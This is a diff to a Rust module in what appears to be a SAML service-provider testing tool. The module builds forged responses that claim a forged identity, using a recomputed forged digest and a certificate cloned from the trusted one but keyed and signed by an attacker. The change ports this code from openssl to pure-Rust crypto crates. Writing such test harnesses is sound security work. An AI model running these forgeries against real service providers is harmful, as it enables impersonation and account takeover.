@@ -4,16 +4,20 @@
 //! another key. Each claims the forged identity; none is validly signed by the trusted key over
 //! what it says, so a correct SP refuses all three.
 
-use openssl::hash::MessageDigest;
-use openssl::x509::X509;
+use rsa::rand_core::OsRng;
+use rsa::{Pkcs1v15Sign, RsaPrivateKey};
+use sha2::Digest as _;
+use x509_cert::der::asn1::{Any, BitString};
+use x509_cert::der::{Decode as _, Encode as _};
+use x509_cert::spki::{AlgorithmIdentifierOwned, ObjectIdentifier, SubjectPublicKeyInfoOwned};
 
 use super::{
     assertion_mut, make_assertion_evil, make_spec_evil, shape, AttackContext, AttackError,
 };
-use crate::keys::SigningKeys;
+use crate::keys::{Certificate, SigningKeys};
 use crate::sign::sign_response;
 use crate::spec::ResponseSpec;
-use crate::style::{DigestAlgorithm, SignMode};
+use crate::style::SignMode;
 use crate::xml::{self, Element, Node, NS_DSIG};
 
 /// How the forged digest is smuggled past the signature over `SignedInfo`.
@@ -46,11 +50,9 @@ pub(super) fn forged_digest(
         ctx.uid_attribute,
         ctx.forged_identity(),
     );
-    let md = match spec.digest_algorithm {
-        DigestAlgorithm::Sha256 => MessageDigest::sha256(),
-        DigestAlgorithm::Sha1 => MessageDigest::sha1(),
-    };
-    let forged = super::resign::assertion_digest(&root, md)
+    let algorithm = spec.digest_algorithm;
+    let md = move |bytes: &[u8]| crate::sign::digest(algorithm, bytes);
+    let forged = super::resign::assertion_digest(&root, &md)
         .ok_or_else(|| shape(attack, "cannot digest the forged assertion"))?;
     let signature = assertion_mut(&mut root, attack)?
         .child_mut(NS_DSIG, "Signature")
@@ -98,33 +100,54 @@ pub(super) fn cloned_certificate(
     ctx: &AttackContext<'_>,
     attack: &'static str,
 ) -> Result<String, AttackError> {
-    let cloned = clone_certificate(ctx.trusted, ctx.attacker)
-        .map_err(|e| e.to_string())
-        .and_then(|(key, cert)| SigningKeys::from_pem(&key, &cert).map_err(|e| e.to_string()))
-        .map_err(|e| AttackError::Shape {
-            attack,
-            detail: format!("cloning the trusted certificate: {e}"),
-        })?;
+    let cloned = clone_certificate(ctx.trusted, ctx.attacker).map_err(|e| AttackError::Shape {
+        attack,
+        detail: format!("cloning the trusted certificate: {e}"),
+    })?;
     make_spec_evil(spec, ctx.uid_attribute, ctx.forged_identity());
     sign_response(spec, &cloned).map_err(|source| AttackError::Sign { attack, source })
 }
 
-/// The attacker's private key and a certificate (both PEM) that names what the trusted
-/// certificate names around the attacker's public key.
-fn clone_certificate(
-    trusted: &SigningKeys,
-    attacker: &SigningKeys,
-) -> Result<(Vec<u8>, Vec<u8>), openssl::error::ErrorStack> {
-    let original = X509::from_der(trusted.certificate().der())?;
-    let key = attacker.private_key();
-    let mut builder = X509::builder()?;
-    builder.set_version(original.version())?;
-    builder.set_serial_number(original.serial_number())?;
-    builder.set_subject_name(original.subject_name())?;
-    builder.set_issuer_name(original.issuer_name())?;
-    builder.set_not_before(original.not_before())?;
-    builder.set_not_after(original.not_after())?;
-    builder.set_pubkey(key)?;
-    builder.sign(key, MessageDigest::sha256())?;
-    Ok((key.private_key_to_pem_pkcs8()?, builder.build().to_pem()?))
+/// RFC 4055 §5: `sha256WithRSAEncryption`.
+const SHA256_WITH_RSA: ObjectIdentifier = ObjectIdentifier::new_unwrap("1.2.840.113549.1.1.11");
+
+/// The attacker's key with a certificate that names what the trusted certificate names
+/// (version, serial, subject, issuer, validity) around the attacker's public key, signed by
+/// the attacker's key with RSA-SHA256 and without extensions.
+fn clone_certificate(trusted: &SigningKeys, attacker: &SigningKeys) -> Result<SigningKeys, String> {
+    let key: &RsaPrivateKey = attacker.private_key();
+    let original = trusted.certificate().parsed().map_err(|e| e.to_string())?;
+    let attacker_cert = attacker.certificate().parsed().map_err(|e| e.to_string())?;
+    let algorithm = AlgorithmIdentifierOwned {
+        oid: SHA256_WITH_RSA,
+        parameters: Some(Any::null()),
+    };
+    let mut tbs = original.tbs_certificate;
+    tbs.signature = algorithm.clone();
+    tbs.subject_public_key_info = SubjectPublicKeyInfoOwned::from_der(
+        &attacker_cert
+            .tbs_certificate
+            .subject_public_key_info
+            .to_der()
+            .map_err(|e| e.to_string())?,
+    )
+    .map_err(|e| e.to_string())?;
+    tbs.issuer_unique_id = None;
+    tbs.subject_unique_id = None;
+    tbs.extensions = None;
+    let hashed = sha2::Sha256::digest(tbs.to_der().map_err(|e| e.to_string())?);
+    let signature = key
+        .sign_with_rng(&mut OsRng, Pkcs1v15Sign::new::<sha2::Sha256>(), &hashed)
+        .map_err(|e| e.to_string())?;
+    let cert = x509_cert::Certificate {
+        tbs_certificate: tbs,
+        signature_algorithm: algorithm,
+        signature: BitString::from_bytes(&signature).map_err(|e| e.to_string())?,
+    };
+    let der = cert.to_der().map_err(|e| e.to_string())?;
+    SigningKeys::from_parts(
+        key.clone(),
+        Certificate::from_der(der).map_err(|e| e.to_string())?,
+    )
+    .map_err(|e| e.to_string())
 }
